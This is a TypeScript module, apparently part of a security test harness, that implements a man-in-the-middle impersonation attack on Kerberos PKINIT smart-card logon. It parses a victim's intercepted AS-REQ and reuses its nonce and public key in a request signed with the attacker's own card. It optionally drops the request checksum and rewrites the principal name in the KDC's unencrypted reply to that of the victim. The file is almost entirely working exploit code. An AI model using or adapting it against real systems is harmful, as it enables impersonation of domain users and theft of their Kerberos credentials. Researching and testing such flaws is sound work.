import { createHash } from 'node:crypto';
import {
  explicit,
  generalString,
  integer,
  kerberosTime,
  octets,
  oid,
  readAll,
  readFields,
  readOne,
  sequence,
  set,
  type Tlv,
  tlv,
} from '../../../shared/kernel/crypto/der.ts';
import { readCard } from '../../../shared/remotes/kerberos/card.ts';
import { type Principal, principalName } from '../../../shared/remotes/kerberos/names.ts';
import { findPaData, readReply } from '../../../shared/remotes/kerberos/replies.ts';
import {
  algorithms,
  asRequest,
  contentTypes,
  preflight,
  requestBody,
} from '../../../shared/remotes/kerberos/request.ts';
import { signedRequest } from '../../../shared/remotes/kerberos/signed-request.ts';
import { ask } from '../gateways/tcp-stand.ts';
import type { CardFiles } from './cards.ts';

/** The data of a request that an attacker between client and KDC reads and uses. */
type InterceptedRequest = { nonce: number; publicKey: Uint8Array; derivations: Uint8Array };

/** Parts of the reply that show whether it belongs to the attacker's own request. */
export type Disguise = { derivations: boolean; checksum: boolean };

/**
 * Forges the reply to a request of `victim`: the attacker, with an own card, sends a request with the key half and
 * the nonce of the original, and replaces the name in the reply with the name of the victim.
 */
export async function impersonate(
  address: string,
  request: Uint8Array,
  attacker: CardFiles,
  victim: Principal,
  disguise: Disguise,
): Promise<Buffer> {
  const own = { ...victim, parts: [attacker.name] };
  const seen = readRequest(request);
  const hints = readReply(await ask(address, preflight(own, new Date())));
  const body = requestBody(own, seen.nonce, new Date());
  const authPack = authPackOf(body, seen, findPaData(hints.paData, 'freshness'), disguise);
  const toSign = attributesOf(authPack);
  const card = readCard(attacker.certificate);
  if (!card) throw new Error('no card');
  const signature = Buffer.from(await attacker.sign(toSign.toString('base64')), 'base64');
  const drafted = { body, authPack, toSign, nonce: seen.nonce, exponent: '' };
  const whole = signedRequest(drafted, card, [], signature, findPaData(hints.paData, 'cookie'));
  return renamed(await ask(address, disguise.checksum ? whole : withoutChecksum(whole)), victim);
}

function readRequest(request: Uint8Array): InterceptedRequest {
  const fields = readFields(readOne(readOne(request).content));
  const body = readFields(fields(4));
  const certificates = paDataOf(fields(3)).find(({ type }) => type === 16);
  const [signed] = readAll(readOne(certificates?.value ?? Buffer.alloc(0)).content);
  const data = readFields(sequenceOf(readAll(readOne(signed?.content ?? Buffer.alloc(0)).content)[1]))(0);
  const content = readAll(data.content)[2];
  const authPack = readFields(readOne(readFields(content as Tlv)(0).content));
  const nonce = body(7).content.reduce((value, byte) => value * 256 + byte, 0);
  return { nonce, publicKey: authPack(1).raw, derivations: authPack(4).raw };
}

/** A ContentInfo has one value under `[0]`, as in a SEQUENCE. */
const sequenceOf = (field: Tlv | undefined): Tlv => readOne(sequence(field?.raw ?? Buffer.alloc(0)));

const paDataOf = (list: Tlv) =>
  readAll(list.content).map((one) => {
    const fields = readFields(one);
    return {
      type: fields(1).content.reduce((value, byte) => value * 256 + byte, 0),
      value: fields(2).content,
    };
  });

const authPackOf = (
  body: Buffer,
  seen: InterceptedRequest,
  freshness: Uint8Array | undefined,
  disguise: Disguise,
): Buffer =>
  sequence(
    explicit(
      0,
      sequence(
        explicit(0, integer(0)),
        explicit(1, kerberosTime(new Date())),
        explicit(2, integer(seen.nonce)),
        explicit(3, octets(createHash('sha1').update(body).digest())),
        ...(freshness ? [explicit(4, octets(freshness))] : []),
      ),
    ),
    explicit(1, seen.publicKey),
    explicit(2, sequence(sequence(oid(algorithms.rsaSha256)))),
    ...(disguise.derivations ? [explicit(4, seen.derivations)] : []),
  );

const attributesOf = (authPack: Uint8Array): Buffer =>
  set(
    sequence(oid('1.2.840.113549.1.9.3'), set(oid(contentTypes.authData))),
    sequence(oid('1.2.840.113549.1.9.4'), set(octets(createHash('sha256').update(authPack).digest()))),
  );

function withoutChecksum(request: Uint8Array): Buffer {
  const fields = readFields(readOne(readOne(request).content));
  return asRequest(
    fields(4).raw,
    paDataOf(fields(3)).filter(({ type }) => type !== 149),
  );
}

/** An AS-REP with another name, which is not encrypted. */
export function renamed(reply: Uint8Array, { parts, realm, type }: Principal): Buffer {
  const message = readOne(reply);
  if (message.tag !== 0x6b) throw new Error(`the KDC refused: ${JSON.stringify(readReply(reply))}`);
  const changed = readAll(readOne(message.content).content).map(({ tag, raw }) => {
    if (tag === 0xa3) return explicit(3, generalString(realm));
    return tag === 0xa4 ? explicit(4, principalName({ type, parts, realm })) : raw;
  });
  return tlv(0x6b, sequence(...changed));
}
